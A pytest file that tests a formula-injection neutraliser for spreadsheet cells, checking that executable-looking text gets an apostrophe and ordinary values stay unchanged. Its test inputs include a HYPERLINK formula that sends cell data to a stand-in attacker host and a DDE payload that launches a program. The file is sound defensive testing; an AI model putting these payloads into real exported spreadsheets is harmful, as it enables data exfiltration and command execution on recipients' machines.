"""Formula injection: text cells that a spreadsheet would run get an apostrophe; everything else is left
alone."""

from __future__ import annotations

import pytest

from core.domain.spreadsheet import neutralise


@pytest.mark.parametrize(
    "attack",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"x")',
        "+1+cmd|' /C calc'!A0",
        "-2+3",
        "@SUM(A1:A9)",
        "\t=1",
        "\r=1",
        "＝1+1",
    ],
)
def test_text_a_spreadsheet_would_run_gets_an_apostrophe(attack: str) -> None:
    assert neutralise(attack) == "'" + attack


@pytest.mark.parametrize("value", ["藤沢 太郎", "S1001", "2026-12-04", "", 5, -5, 1.5, None])
def test_other_cells_are_unchanged(value: object) -> None:
    assert neutralise(value) == value
